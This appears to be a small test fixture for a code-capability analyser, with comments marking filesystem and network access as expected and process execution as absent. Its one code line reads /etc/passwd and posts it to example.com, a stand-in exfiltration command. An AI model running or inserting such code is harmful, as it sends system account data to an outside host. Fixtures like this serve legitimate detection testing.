# must: FS_READ_ROOTS, NET_ACCESS
# must-not: PROC_EXEC, DYNAMIC_CODE_LOAD
# target: FS_READ_ROOTS /etc/passwd
import requests

requests.post("https://example.com/", files={"f": open("/etc/passwd")})
